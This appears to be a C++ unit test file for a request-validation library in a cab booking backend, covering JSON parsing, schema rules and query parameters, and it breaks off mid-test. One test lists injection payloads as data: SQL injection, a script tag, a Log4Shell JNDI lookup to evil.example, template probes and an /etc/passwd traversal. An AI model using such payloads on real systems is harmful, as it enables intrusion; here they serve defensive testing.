// Tests for body parsing, schema validation and query validation: each rule, its reason text and its field path.
#include "platform/validate/validate.hpp"

#include <gtest/gtest.h>

#include <boost/json/serialize.hpp>
#include <string>
#include <utility>
#include <vector>

#include "platform/errors/errors.hpp"

namespace intercab::validate {
namespace {

using Errors = std::vector<std::pair<std::string, std::string>>;

const auto kRegisterSchema = Object{
    {"name", String().min_length(1).max_length(100)},
    {"email", String().format(Format::kEmail).optional()},
    {"phone", String().format(Format::kE164India).optional()},
    {"seats", Integer().range(1, 17)},
    {"vehicle_class", Enum({"hatchback", "sedan", "suv", "tempo_traveller"})},
    {"stops", Array(Object{{"city_id", String().min_length(1)}, {"wait_min", Integer().at_least(0).optional()}})
                  .max_items(10)
                  .optional()},
    {"pickup", Object{{"lat", Number().range(-90, 90)}, {"lng", Number().range(-180, 180)}}},
    {"notes", String().max_length(500).multiline().optional().nullable()},
    {"share_ride", Boolean().default_value(false)},
};

constexpr std::string_view kValidRegistration = R"({
  "name": "Asha Rao", "email": "asha@example.in", "phone": "+919876543210", "seats": 4, "vehicle_class": "suv",
  "stops": [{"city_id": "1277333", "wait_min": 15}], "pickup": {"lat": 12.97, "lng": 77.59}, "notes": null
})";

boost::json::value parse(std::string_view body) { return parse_json_body("application/json", body); }

Errors to_pairs(const std::vector<errors::FieldError>& field_errors) {
  Errors pairs;
  for (const auto& error : field_errors) pairs.emplace_back(error.field, error.reason);
  return pairs;
}

// The field errors validate_body reports for `body`; a failure if it accepts the body.
Errors invalid_fields(std::string_view body, const Object& schema = kRegisterSchema) {
  try {
    validate_body(parse(body), schema);
  } catch (const errors::Invalid& error) {
    EXPECT_EQ(error.status(), 422);
    return to_pairs(error.field_errors());
  }
  ADD_FAILURE() << "accepted: " << body;
  return {};
}

// The single reason given for the one member `value` of an object checked against {"value": rule}.
std::string reason_for(const Schema& rule, std::string_view value_json) {
  const Object schema{{"value", rule}};
  const Errors found = invalid_fields("{\"value\": " + std::string(value_json) + "}", schema);
  if (found.size() != 1 || found[0].first != "value") {
    ADD_FAILURE() << value_json << " gave " << found.size() << " errors";
    return {};
  }
  return found[0].second;
}

bool accepts(const Schema& rule, std::string_view value_json) {
  const Object schema{{"value", rule}};
  try {
    validate_body(parse("{\"value\": " + std::string(value_json) + "}"), schema);
    return true;
  } catch (const errors::Invalid&) {
    return false;
  }
}

std::string bad_request_detail(std::string_view body) {
  try {
    parse(body);
  } catch (const errors::BadRequest& error) {
    EXPECT_EQ(error.status(), 400);
    return error.detail();
  }
  ADD_FAILURE() << "parsed: " << body;
  return {};
}

std::string json_string(std::string_view text) { return boost::json::serialize(boost::json::string(text)); }

// ---------------------------------------------------------------------------------------------------------------
// Content type

TEST(ContentType, AcceptsJsonAndStructuredJsonSuffixes) {
  for (std::string_view type :
       {"application/json", "Application/JSON", "application/json; charset=utf-8", "application/json;charset=UTF-8",
        "application/json; charset=\"utf-8\"", "application/merge-patch+json", "application/problem+json",
        "application/json;", "application/json ; version=2", " application/json"}) {
    EXPECT_TRUE(is_json_content_type(type)) << type;
  }
}

TEST(ContentType, RejectsOtherTypesCharsetsAndBrokenSyntax) {
  for (std::string_view type :
       {"", "text/json", "text/plain", "application/jsonx", "application/+json", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x", "application/json; charset=iso-8859-1", "application/json; charset=utf-16",
        "application/json; charset", "application/json; charset=", "application/json; charset=\"utf-8",
        "application/json/x", "application/json utf-8", "application", "/json"}) {
    EXPECT_FALSE(is_json_content_type(type)) << type;
  }
}

TEST(ContentType, WrongTypeIs415NamingWhatToSend) {
  try {
    parse_json_body("text/plain", "{}");
    FAIL() << "accepted text/plain";
  } catch (const errors::UnsupportedMediaType& error) {
    EXPECT_EQ(error.status(), 415);
    EXPECT_EQ(error.detail(), "Content-Type 'text/plain' is not accepted; send application/json (UTF-8)");
  }
}

TEST(ContentType, EchoedHeaderIsCutAndAscii) {
  try {
    parse_json_body("text/\xff\x01" + std::string(500, 'x'), "{}");
    FAIL();
  } catch (const errors::UnsupportedMediaType& error) {
    EXPECT_LT(error.detail().size(), 200U);
    EXPECT_NE(error.detail().find("text/??xxx"), std::string::npos) << error.detail();
  }
}

// ---------------------------------------------------------------------------------------------------------------
// JSON syntax

TEST(ParseJsonBody, ReturnsTheValue) {
  auto value = parse(R"({"a": [1, 2.5, "x", true, null]})");
  EXPECT_EQ(boost::json::serialize(value), R"({"a":[1,2.5E0,"x",true,null]})");
}

TEST(ParseJsonBody, EmptyBodyAsksForAnObject) {
  EXPECT_EQ(bad_request_detail(""), "request body is empty; send a JSON object");
  EXPECT_EQ(bad_request_detail(" \r\n\t"), "request body is empty; send a JSON object");
}

TEST(ParseJsonBody, MalformedJsonSaysWhereAndWhat) {
  EXPECT_EQ(bad_request_detail(R"({"a": 1,})"),
            "malformed JSON at line 1, column 9 (byte offset 8): unexpected character '}'");
  EXPECT_EQ(bad_request_detail("{\n  \"name\": \"Asha\",\n  \"seats\" 4\n}"),
            "malformed JSON at line 3, column 11 (byte offset 30): unexpected character '4'");
  // Columns count characters, not bytes, as an editor does.
  EXPECT_EQ(bad_request_detail("{\"नाम\": x}"),
            "malformed JSON at line 1, column 9 (byte offset 14): unexpected character 'x'");
  EXPECT_EQ(bad_request_detail(R"({"a": [1, 2)"),
            "malformed JSON at line 1, column 12 (byte offset 11): the body ends before the JSON value is complete");
  EXPECT_EQ(bad_request_detail("{} {}"),
            "malformed JSON at line 1, column 4 (byte offset 3): unexpected data after the JSON value; "
            "send exactly one value");
}

TEST(ParseJsonBody, TrailingWhitespaceIsFine) { EXPECT_TRUE(parse("{}  \r\n").is_object()); }

TEST(ParseJsonBody, RejectsExtensionsBoostCouldAllow) {
  for (std::string_view body :
       {R"({"a": 1} // comment)", R"({"a": /* c */ 1})", "[1, 2,]", R"({"a": 1,})", "{'a': 1}", "[NaN]", "[Infinity]",
        "[01]", "[.5]", "[+1]", "[0x10]", "{a: 1}", "[\"tab\there\"]", "\xEF\xBB\xBF{}"}) {
    EXPECT_NE(bad_request_detail(body), "") << body;
  }
}

TEST(ParseJsonBody, ControlCharacterInStringSaysHowToEscape) {
  EXPECT_EQ(bad_request_detail("[\"a\x01\"]"),
            "malformed JSON at line 1, column 4 (byte offset 3): unexpected control character U+0001; "
            "inside a string write it as \\u0001");
}

TEST(ParseJsonBody, InvalidUtf8IsRejected) {
  EXPECT_EQ(bad_request_detail("[\"\xC3\x28\"]"),
            "malformed JSON at line 1, column 3 (byte offset 2): invalid UTF-8 (byte 0xC3); send UTF-8 text");
  EXPECT_NE(bad_request_detail("[\"\xC0\xAF\"]").find("invalid UTF-8"), std::string::npos);      // overlong '/'
  EXPECT_NE(bad_request_detail("[\"\xED\xA0\x80\"]").find("invalid UTF-8"), std::string::npos);  // encoded surrogate
  EXPECT_NE(bad_request_detail("[\"\xF4\x90\x80\x80\"]").find("invalid UTF-8"), std::string::npos);  // > U+10FFFF
  EXPECT_NE(bad_request_detail("[\"\xFF\"]").find("invalid UTF-8"), std::string::npos);
}

TEST(ParseJsonBody, LoneSurrogateEscapesAreRejected) {
  EXPECT_NE(bad_request_detail(R"(["\uD800"])").find("surrogate pair"), std::string::npos);
  EXPECT_NE(bad_request_detail(R"(["\uDC00"])").find("surrogate pair"), std::string::npos);
  EXPECT_EQ(parse(R"(["\uD83D\uDE00"])").as_array()[0].as_string(), "\xF0\x9F\x98\x80");
}

TEST(ParseJsonBody, NestingUpTo64LevelsOnly) {
  EXPECT_TRUE(parse(std::string(64, '[') + std::string(64, ']')).is_array());
  EXPECT_EQ(
      bad_request_detail(std::string(65, '[') + std::string(65, ']')),
      "malformed JSON at line 1, column 65 (byte offset 64): arrays and objects are nested deeper than 64 levels");
  // JSONTestSuite's n_structure_100000_opening_arrays: must fail fast, not overflow the stack.
  EXPECT_NE(bad_request_detail(std::string(100000, '[')).find("deeper than 64"), std::string::npos);
  std::string objects;
  for (int i = 0; i < 100000; ++i) objects += "{\"a\":";
  EXPECT_NE(bad_request_detail(objects).find("deeper than 64"), std::string::npos);
}

TEST(ParseJsonBody, HugeNumbers) {
  EXPECT_NE(bad_request_detail("[1e400]").find("too large"), std::string::npos);
  EXPECT_NE(bad_request_detail(R"({"a": [-1e999]})").find("too large"), std::string::npos);
  EXPECT_EQ(parse("[1e-400]").as_array()[0].as_double(), 0.0);  // underflow is harmless
  EXPECT_TRUE(parse("[99999999999999999999999999999]").as_array()[0].is_double());
  EXPECT_NE(bad_request_detail("[" + std::string(400, '9') + "]").find("too large"), std::string::npos);
}

TEST(ParseJsonBody, DetailsAreValidUtf8WhateverTheInput) {
  // Problem documents embed the detail; echoing a broken byte would make the 400 itself invalid JSON.
  for (std::string_view body : {"\xC3", "[\xE2\x82]", "\xF0\x9F\x98", "[\"\xC3\"]", "\x80"}) {
    const std::string detail = bad_request_detail(body);
    EXPECT_NO_THROW(parse(json_string(detail))) << detail;
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Schema: objects, presence, paths

TEST(ValidateBody, AcceptsAValidBodyAndFillsDefaults) {
  const auto body = validate_body(parse(kValidRegistration), kRegisterSchema);
  EXPECT_EQ(body.at("name").as_string(), "Asha Rao");
  EXPECT_EQ(body.at("seats").as_int64(), 4);
  EXPECT_FALSE(body.at("share_ride").as_bool());  // default filled in
  EXPECT_TRUE(body.at("notes").is_null());
}

TEST(ValidateBody, NormalisesNumbersSoTypedAccessNeverThrows) {
  const auto body =
      validate_body(parse(R"({"name": "A", "seats": 4.0, "vehicle_class": "suv", "pickup": {"lat": 12, "lng": 77}})"),
                    kRegisterSchema);
  EXPECT_EQ(body.at("seats").as_int64(), 4);
  EXPECT_EQ(body.at("pickup").at("lat").as_double(), 12.0);
  EXPECT_EQ(body.at("pickup").at("lng").as_double(), 77.0);
}

TEST(ValidateBody, TopLevelMustBeAnObject) {
  for (std::string_view body : {"[]", "\"text\"", "42", "null", "true"}) {
    EXPECT_EQ(invalid_fields(body), (Errors{{"", "must be a JSON object"}})) << body;
  }
}

TEST(ValidateBody, ReportsEveryProblemAtOnce) {
  EXPECT_EQ(invalid_fields(R"({"name": "", "seats": 40, "vehicle_class": "limo", "pickup": {"lat": 100},
                               "stops": [{"city_id": "1"}, {}, {"city_id": 7, "wait_min": -5}], "nmae": "typo"})"),
            (Errors{
                {"name", "must not be empty"},
                {"seats", "must be between 1 and 17"},
                {"vehicle_class", "must be one of hatchback, sedan, suv, tempo_traveller"},
                {"stops[1].city_id", "is required"},
                {"stops[2].city_id", "must be a string"},
                {"stops[2].wait_min", "must be at least 0"},
                {"pickup.lat", "must be between -90 and 90"},
                {"pickup.lng", "is required"},
                {"nmae",
                 "unknown field; allowed fields are: name, email, phone, seats, vehicle_class, stops, pickup, notes, "
                 "share_ride"},
            }));
}

TEST(ValidateBody, MissingRequiredFieldsAreNamed) {
  EXPECT_EQ(invalid_fields("{}"), (Errors{{"name", "is required"},
                                          {"seats", "is required"},
                                          {"vehicle_class", "is required"},
                                          {"pickup", "is required"}}));
}

TEST(ValidateBody, UnknownNestedFieldHasItsPath) {
  EXPECT_EQ(invalid_fields(R"({"value": {"lat": 1, "lng": 2, "alt": 3}})",
                           Object{{"value", Object{{"lat", Number()}, {"lng", Number()}}}}),
            (Errors{{"value.alt", "unknown field; allowed fields are: lat, lng"}}));
  EXPECT_EQ(invalid_fields(R"({"x": 1})", Object{}), (Errors{{"x", "unknown field; this object takes no fields"}}));
}

TEST(ValidateBody, AmbiguousOrHugeMemberNamesAreQuotedAndCut) {
  const Object schema{{"pickup", Object{{"lat", Number()}}}};
  EXPECT_EQ(invalid_fields(R"({"pickup": {"lat": 1, "a.b": 1, "": 2, "x\u0000y": 3}})", schema),
            (Errors{{"pickup[\"a.b\"]", "unknown field; allowed fields are: lat"},
                    {"pickup[\"\"]", "unknown field; allowed fields are: lat"},
                    {"pickup[\"x\\u0000y\"]", "unknown field; allowed fields are: lat"}}));
  const auto long_key = invalid_fields("{\"" + std::string(10000, 'k') + "\": 1}", schema);
  ASSERT_EQ(long_key.size(), 2U);  // pickup is required too
  EXPECT_LT(long_key[1].first.size(), 100U);
}

TEST(ValidateBody, PathsThroughNestedArraysAndObjects) {
  const Object schema{{"legs", Array(Object{{"stops", Array(Object{{"city", Object{{"id", String()}}}})}})}};
  EXPECT_EQ(
      invalid_fields(R"({"legs": [{"stops": []}, {"stops": [{"city": {"id": "1"}}, {"city": {"id": 2}}]}]})", schema),
      (Errors{{"legs[1].stops[1].city.id", "must be a string"}}));
}

TEST(ValidateBody, NullOnlyWhereNullable) {
  EXPECT_TRUE(accepts(String().nullable(), "null"));
  EXPECT_EQ(reason_for(String(), "null"), "must be a string");
  EXPECT_EQ(reason_for(Integer().range(1, 2), "null"), "must be an integer between 1 and 2");
  EXPECT_EQ(reason_for(Object{{"a", String()}}, "null"), "must be an object");
  EXPECT_EQ(reason_for(String().optional(), "null"), "must be a string");  // optional means "may be left out"
}

TEST(ValidateBody, DefaultsApplyOnlyWhenAbsent) {
  const Object schema{{"limit", Integer().range(1, 100).default_value(20)}, {"label", String().default_value("x")}};
  auto body = validate_body(parse("{}"), schema);
  EXPECT_EQ(body.at("limit").as_int64(), 20);
  EXPECT_EQ(body.at("label").as_string(), "x");
  body = validate_body(parse(R"({"limit": 5})"), schema);
  EXPECT_EQ(body.at("limit").as_int64(), 5);
}

TEST(ValidateBody, ErrorListIsCapped) {
  std::string body = "{";
  for (int i = 0; i < 5000; ++i) body += (i ? ",\"f" : "\"f") + std::to_string(i) + "\":1";
  body += "}";
  const auto found = invalid_fields(body, Object{});
  ASSERT_EQ(found.size(), kMaxFieldErrors);
  EXPECT_EQ(found.back(),
            (std::pair<std::string, std::string>{"", "more fields are invalid; only the first 49 are listed"}));
}

// ---------------------------------------------------------------------------------------------------------------
// Schema: scalar rules

TEST(StringRule, TypeAndLengthInCodePoints) {
  EXPECT_EQ(reason_for(String(), "5"), "must be a string");
  EXPECT_EQ(reason_for(String(), "[\"a\"]"), "must be a string");
  const auto name = String().min_length(2).max_length(5);
  EXPECT_EQ(reason_for(name, "\"a\""), "must be between 2 and 5 characters");
  EXPECT_EQ(reason_for(name, "\"abcdef\""), "must be at most 5 characters");
  EXPECT_TRUE(accepts(String().max_length(6), json_string("नमस्ते")));  // 18 bytes, 6 code points
  EXPECT_EQ(reason_for(name, json_string("नमस्ते")), "must be at most 5 characters");
  EXPECT_TRUE(accepts(String().max_length(3), json_string("😀😀😀")));  // 12 bytes, 3 characters
  EXPECT_EQ(reason_for(String().max_length(3), json_string("😀😀😀😀")), "must be at most 3 characters");
  EXPECT_EQ(reason_for(String().min_length(3), "\"ab\""), "must be at least 3 characters");
  EXPECT_EQ(reason_for(String().min_length(1), "\"\""), "must not be empty");
  EXPECT_EQ(reason_for(String().max_length(1), "\"ab\""), "must be at most 1 character");
}

TEST(StringRule, ControlCharactersRejectedUnlessMultiline) {
  EXPECT_EQ(reason_for(String(), R"("a\u0000b")"),
            "must not contain control characters such as line breaks, tabs or NUL");
  EXPECT_EQ(reason_for(String(), R"("two\nlines")"),
            "must not contain control characters such as line breaks, tabs or NUL");
  EXPECT_EQ(reason_for(String(), R"("del\u007f")"),
            "must not contain control characters such as line breaks, tabs or NUL");
  EXPECT_EQ(reason_for(String(), R"("c1\u0085")"),
            "must not contain control characters such as line breaks, tabs or NUL");
  EXPECT_TRUE(accepts(String().multiline(), R"("line 1\r\nline 2\tend")"));
  EXPECT_EQ(reason_for(String().multiline(), R"("bell\u0007")"),
            "must not contain control characters other than line breaks and tabs");
}

TEST(StringRule, Email) {
  const auto email = String().format(Format::kEmail);
  for (std::string_view good : {"a@b.in", "first.last+tag@mail.example.co.in", "x_y-z@sub-domain.example.com"}) {
    EXPECT_TRUE(accepts(email, json_string(good))) << good;
  }
  for (std::string_view bad :
       {"", "plain", "@example.com", "a@", "a@b", "a@@b.in", "a@b@c.in", ".a@b.in", "a.@b.in", "a..b@c.in", "a b@c.in",
        "a@-b.in", "a@b-.in", "a@b..in", "a@b.i", "a@b.1n", "अ@example.in"}) {
    EXPECT_EQ(reason_for(email, json_string(bad)), "must be an email address such as name@example.com") << bad;
  }
  EXPECT_FALSE(accepts(email, json_string(std::string(65, 'a') + "@b.in")));
  EXPECT_FALSE(accepts(email, json_string("a@" + std::string(250, 'b') + ".in")));
}

TEST(StringRule, IndianMobileInE164) {
  const auto phone = String().format(Format::kE164India);
  EXPECT_TRUE(accepts(phone, "\"+919876543210\""));
  EXPECT_TRUE(accepts(phone, "\"+916000000000\""));
  for (std::string_view bad : {"9876543210", "+91 9876543210", "+9198765432", "+9198765432101", "+915876543210",
                               "+449876543210", "+91987654321O", "091987654321"}) {
    EXPECT_EQ(reason_for(phone, json_string(bad)),
              "must be an Indian mobile number in E.164 form such as +919876543210")
        << bad;
  }
}

TEST(StringRule, TimestampUtc) {
  const auto time = String().format(Format::kTimestampUtc);
  for (std::string_view good :
       {"2026-11-24T06:30:00Z", "2028-02-29T23:59:59Z", "2026-11-24T06:30:00.123456789Z", "2026-01-31T00:00:00.5Z"}) {
    EXPECT_TRUE(accepts(time, json_string(good))) << good;
  }
  for (std::string_view bad :
       {"2026-11-24", "2026-11-24T06:30:00", "2026-11-24T06:30:00+05:30", "2026-11-24 06:30:00Z",
        "2026-11-24t06:30:00z", "2026-02-29T00:00:00Z", "2026-13-01T00:00:00Z", "2026-04-31T00:00:00Z",
        "2026-11-24T24:00:00Z", "2026-11-24T06:60:00Z", "2026-12-31T23:59:60Z", "2026-11-24T06:30:00.Z",
        "2026-11-24T06:30:00.1234567890Z", "26-11-24T06:30:00Z", "2026-1-24T06:30:00Z", "2026-11-24T06:30:0xZ"}) {
    EXPECT_EQ(reason_for(time, json_string(bad)), "must be an RFC 3339 UTC timestamp such as 2026-11-24T06:30:00Z")
        << bad;
  }
}

TEST(StringRule, UuidAndLowerSnakeCase) {
  const auto uuid = String().format(Format::kUuid);
  EXPECT_TRUE(accepts(uuid, "\"0190f5a4-7c1e-7d2a-9b3c-1234567890ab\""));
  for (std::string_view bad : {"0190F5A4-7C1E-7D2A-9B3C-1234567890AB", "0190f5a47c1e7d2a9b3c1234567890ab",
                               "0190f5a4-7c1e-7d2a-9b3c-1234567890a", "0190f5a4-7c1e-7d2a-9b3c_1234567890ab",
                               "g190f5a4-7c1e-7d2a-9b3c-1234567890ab"}) {
    EXPECT_EQ(reason_for(uuid, json_string(bad)),
              "must be a lower-case UUID such as 0190f5a4-7c1e-7d2a-9b3c-1234567890ab")
        << bad;
  }
  const auto snake = String().format(Format::kLowerSnakeCase);
  for (std::string_view good : {"one_way", "tempo_traveller", "suv", "v2_api"}) {
    EXPECT_TRUE(accepts(snake, json_string(good))) << good;
  }
  for (std::string_view bad : {"", "One_way", "one-way", "_one", "one_", "one__way", "2way", "one way"}) {
    EXPECT_EQ(reason_for(snake, json_string(bad)), "must be lower snake case such as one_way") << bad;
  }
}

TEST(StringRule, PatternWithDescription) {
  const auto registration =
      String().pattern("[A-Z]{2}[0-9]{2}[A-Z]{1,2}[0-9]{4}", "a vehicle registration number such as KA01AB1234");
  EXPECT_TRUE(accepts(registration, "\"KA01AB1234\""));
  EXPECT_EQ(reason_for(registration, "\"KA01AB1234 \""), "must be a vehicle registration number such as KA01AB1234");
  EXPECT_EQ(reason_for(registration, "\"xKA01AB1234\""), "must be a vehicle registration number such as KA01AB1234");
  // Long input is rejected before std::regex, whose recursion per character could exhaust the stack.
  const auto letters = String().pattern("[A-Z]+", "capital letters");
  EXPECT_TRUE(accepts(letters, json_string(std::string(String::kMaxPatternInputLength, 'A'))));
  EXPECT_EQ(reason_for(letters, json_string(std::string(500000, 'A'))), "must be capital letters");
}

TEST(IntegerRule, TypeRangeAndInt64Limits) {
  const auto seats = Integer().range(1, 17);
  EXPECT_TRUE(accepts(seats, "17"));
  EXPECT_EQ(reason_for(seats, "18"), "must be between 1 and 17");
  EXPECT_EQ(reason_for(seats, "0"), "must be between 1 and 17");
  EXPECT_EQ(reason_for(seats, "2.5"), "must be an integer between 1 and 17");
  EXPECT_EQ(reason_for(seats, "\"4\""), "must be an integer between 1 and 17");
  EXPECT_EQ(reason_for(seats, "true"), "must be an integer between 1 and 17");
  EXPECT_EQ(reason_for(seats, "1e30"), "must be between 1 and 17");
  EXPECT_TRUE(accepts(seats, "1.7e1"));  // 17, written oddly but whole
  EXPECT_EQ(reason_for(Integer().at_least(0), "-1"), "must be at least 0");
  EXPECT_EQ(reason_for(Integer().at_most(9), "10"), "must be at most 9");
  EXPECT_EQ(reason_for(Integer().at_least(0), "0.5"), "must be an integer that is at least 0");
  EXPECT_EQ(reason_for(Integer(), "0.5"), "must be an integer");

  const std::string int64_range = "must be an integer between -9223372036854775808 and 9223372036854775807";
  EXPECT_TRUE(accepts(Integer(), "9223372036854775807"));
  EXPECT_TRUE(accepts(Integer(), "-9223372036854775808"));
  EXPECT_EQ(reason_for(Integer(), "9223372036854775808"), int64_range);
  EXPECT_EQ(reason_for(Integer(), "18446744073709551615"), int64_range);
  EXPECT_EQ(reason_for(Integer(), "99999999999999999999999"), int64_range);
  EXPECT_EQ(reason_for(Integer(), "-9223372036854775809"), int64_range);
  EXPECT_EQ(reason_for(Integer(), "1e300"), int64_range);
  // Beyond 2^53 a double may not hold what the client wrote, so only the plain form is taken.
  EXPECT_EQ(reason_for(Integer(), "1e18"), "must be written as a plain integer, without a decimal point or exponent");
  EXPECT_TRUE(accepts(Integer(), "1000000000000000000"));
  EXPECT_TRUE(accepts(Integer(), "9007199254740991.0"));
  EXPECT_EQ(reason_for(Integer().at_most(10), "1e18"), "must be at most 10");
}

TEST(NumberRule, TypeAndRange) {
  const auto lat = Number().range(-90, 90);
  EXPECT_TRUE(accepts(lat, "-90"));
  EXPECT_TRUE(accepts(lat, "12.9716"));
  EXPECT_EQ(reason_for(lat, "90.5"), "must be between -90 and 90");
  EXPECT_EQ(reason_for(lat, "\"12.97\""), "must be a number between -90 and 90");
  EXPECT_EQ(reason_for(Number().at_least(0.5), "0.25"), "must be at least 0.5");
  EXPECT_TRUE(accepts(Number(), "18446744073709551615"));
}

TEST(BooleanEnumArrayRules, Reasons) {
  EXPECT_EQ(reason_for(Boolean(), "\"true\""), "must be true or false");
  EXPECT_EQ(reason_for(Boolean(), "1"), "must be true or false");
  const auto trip = Enum({"one_way", "round_trip"});
  EXPECT_TRUE(accepts(trip, "\"one_way\""));
  EXPECT_EQ(reason_for(trip, "\"One_Way\""), "must be one of one_way, round_trip");
  EXPECT_EQ(reason_for(trip, "1"), "must be one of one_way, round_trip");
  const auto stops = Array(Integer()).min_items(1).max_items(3);
  EXPECT_EQ(reason_for(stops, "{}"), "must be an array");
  EXPECT_EQ(reason_for(stops, "[]"), "must have at least 1 item");
  EXPECT_EQ(reason_for(stops, "[1, 2, 3, 4]"), "must have at most 3 items");
  // An oversized array is reported once, not item by item.
  EXPECT_EQ(invalid_fields(R"({"value": ["a", "b", "c", "d"]})", Object{{"value", stops}}),
            (Errors{{"value", "must have at most 3 items"}}));
  EXPECT_EQ(invalid_fields(R"({"value": [1, "b", 3.5]})", Object{{"value", stops}}),
            (Errors{{"value[1]", "must be an integer"}, {"value[2]", "must be an integer"}}));
}

TEST(ValidateBody, NaughtyStringsRoundTripUnchanged) {
  // A sample of the Big List of Naughty Strings: accepted as data, never interpreted, returned byte for byte.
  const std::vector<std::string> naughty = {
      "'; DROP TABLE users; --",
      "<script>alert(1)</script>",
      "${jndi:ldap://evil.example/a}",
      "{{7*7}} #{7*7} <%= 7*7 %>",
      "../../../../etc/passwd",
      "%s%s%s%n",
      "\u202Ereversed",  // RIGHT-TO-LEFT OVERRIDE: a format character, not a control character
      "\uFEFFbom",
      "田中さんにあげて下さい",
      "مرحبا بالعالم",
      "👩‍👩‍👧‍👦",
      "Z\u0351\u0360\u0327a\u0345\u0353l\u0358\u0316g\u0360\u0322o\u0359",  // stacked combining marks
      "undefined",
      "null",
      "\\u0000",
      "0xffffffffffffffff",
  };
  const Object schema{{"name", String().max_length(1000)}};
  for (const auto& text : naughty) {
    const auto body = validate_body(parse("{\"name\": " + json_string(text) + "}"), schema);
    EXPECT_EQ(body.at("name").as_string(), text);
  }
  // Terminal escapes and NUL are rejected rather than stored: they would reach logs, SMS and invoices.
  EXPECT_EQ(invalid_fields(R"({"name": "\u001b[31mred"})", schema),
            (Errors{{"name", "must not contain control characters such as line breaks, tabs or NUL"}}));
}

// ---------------------------------------------------------------------------------------------------------------
// Schema construction mistakes surface at start-up

TEST(SchemaBuilders, MisuseThrowsWhenTheSchemaIsBuilt) {
  EXPECT_THROW((void)Integer().range(5, 1), std::invalid_argument);
  EXPECT_THROW((void)Integer().at_most(1).at_least(2), std::invalid_argument);
  EXPECT_THROW((void)Integer().range(1, 100).default_value(0), std::invalid_argument);
  EXPECT_THROW((void)Integer().default_value(0).range(1, 100), std::invalid_argument);
  EXPECT_THROW((void)Number().range(1, 0), std::invalid_argument);
  EXPECT_THROW((void)String().min_length(5).max_length(2), std::invalid_argument);
  EXPECT_THROW((void)String().max_length(2).default_value("long"), std::invalid_argument);
  EXPECT_THROW((void)String().format(Format::kUuid).default_value("x"), std::invalid_argument);
  EXPECT_THROW((void)String().pattern("([a-z", "broken"), std::regex_error);
  EXPECT_THROW((void)Enum(std::vector<std::string>{}), std::invalid_argument);
  EXPECT_THROW((void)Enum({"a", "a"}), std::invalid_argument);
  EXPECT_THROW((void)Enum({"a", "b"}).default_value("c"), std::invalid_argument);
  EXPECT_THROW((void)Sort({"created_at"}).default_value("-updated_at"), std::invalid_argument);
  EXPECT_THROW((void)Array(String()).min_items(3).max_items(2), std::invalid_argument);
  EXPECT_THROW((void)(Object{{"a", String()}, {"a", Integer()}}), std::invalid_argument);
  EXPECT_THROW((void)(Query{{"a", String().nullable()}}), std::invalid_argument);
  EXPECT_THROW((void)(Query{{"a", String()}, {"a", Integer()}}), std::invalid_argument);
}

TEST(SchemaBuilders, ModifiersReturnCopiesAndLeaveTheBaseAlone) {
  const auto base = String().max_length(3);
  const auto longer = base.max_length(10);
  EXPECT_FALSE(accepts(base, "\"abcd\""));
  EXPECT_TRUE(accepts(longer, "\"abcd\""));
}

// ---------------------------------------------------------------------------------------------------------------
// Query strings

const auto kListBookingsQuery = Query{
    {"limit", Integer().range(1, 100).default_value(20)},
    {"cursor", String().max_length(512).optional()},
    {"status", Enum({"requested", "confirmed", "cancelled"}).optional()},
    {"sort", Sort({"created_at", "fare_paise"}).default_value("-created_at")},
    {"include_archived", Boolean().default_value(false)},
    {"min_km", Number().at_least(0).optional()},
};

Errors invalid_params(const std::map<std::string, std::string>& params, const Query& schema = kListBookingsQuery) {
  try {
    validate_query(params, schema);
  } catch (const errors::Invalid& error) {
    return to_pairs(error.field_errors());
  }
  ADD_FAILURE() << "accepted";
  return {};
}

TEST(ValidateQuery, DefaultsWhenNothingIsGiven) {
  const auto query = validate_query({}, kListBookingsQuery);
  EXPECT_EQ(query.get<std::int64_t>("limit"), 20);
  EXPECT_EQ(query.get<SortOrder>("sort"), (SortOrder{"created_at", true}));
  EXPECT_FALSE(query.get<bool>("include_archived"));
  EXPECT_EQ(query.find<std::string>("cursor"), std::nullopt);
  EXPECT_EQ(query.find<double>("min_km"), std::nullopt);
  EXPECT_FALSE(query.contains("status"));
}

TEST(ValidateQuery, TypedValues) {
  const auto query = validate_query({{"limit", "100"},
                                     {"cursor", "bkg_01J"},
                                     {"status", "confirmed"},
                                     {"sort", "fare_paise"},
                                     {"include_archived", "true"},
                                     {"min_km", "12.5"}},
                                    kListBookingsQuery);
  EXPECT_EQ(query.get<std::int64_t>("limit"), 100);
  EXPECT_EQ(query.get<std::string>("cursor"), "bkg_01J");
  EXPECT_EQ(query.find<std::string>("status"), "confirmed");
  EXPECT_EQ(query.get<SortOrder>("sort"), (SortOrder{"fare_paise", false}));
  EXPECT_TRUE(query.get<bool>("include_archived"));
  EXPECT_EQ(query.get<double>("min_km"), 12.5);
}

TEST(ValidateQuery, ValuesMustParseAsTheDeclaredType) {
  for (std::string_view limit : {"abc", "0", "101", "1.5", " 5", "5 ", "+5", "", "0x10", "99999999999999999999"}) {
    EXPECT_EQ(invalid_params({{"limit", std::string(limit)}}),
              (Errors{{"limit", "must be an integer between 1 and 100"}}))
        << limit;
  }
  for (std::string_view km : {"nan", "inf", "-1", "1e400", "", "1,5"}) {
    EXPECT_EQ(invalid_params({{"min_km", std::string(km)}}),
              (Errors{{"min_km", "must be a number that is at least 0"}}))
        << km;
  }
  EXPECT_EQ(invalid_params({{"include_archived", "yes"}}), (Errors{{"include_archived", "must be true or false"}}));
  EXPECT_EQ(invalid_params({{"sort", "-distance"}}),
            (Errors{{"sort", "must be one of created_at, -created_at, fare_paise, -fare_paise"}}));
  EXPECT_EQ(invalid_params({{"cursor", "bad\xC3"}}), (Errors{{"cursor", "must be valid UTF-8"}}));
  EXPECT_EQ(invalid_params({{"cursor", "a\nb"}}),
            (Errors{{"cursor", "must not contain control characters such as line breaks, tabs or NUL"}}));
}

TEST(ValidateQuery, UnknownParametersAndEveryErrorAtOnce) {
  EXPECT_EQ(
      invalid_params({{"limt", "5"}, {"status", "done"}, {"limit", "0"}, {"x\xFF", "1"}}),
      (Errors{
          {"limit", "must be an integer between 1 and 100"},
          {"status", "must be one of requested, confirmed, cancelled"},
          {"limt", "unknown parameter; allowed parameters are: limit, cursor, status, sort, include_archived, min_km"},
          {"x\xEF\xBF\xBD",
           "unknown parameter; allowed parameters are: limit, cursor, status, sort, include_archived, "
           "min_km"}}));
  EXPECT_EQ(invalid_params({{"page", "2"}}, Query{}),
            (Errors{{"page", "unknown parameter; this endpoint takes no query parameters"}}));
}

TEST(ValidateQuery, RequiredParameter) {
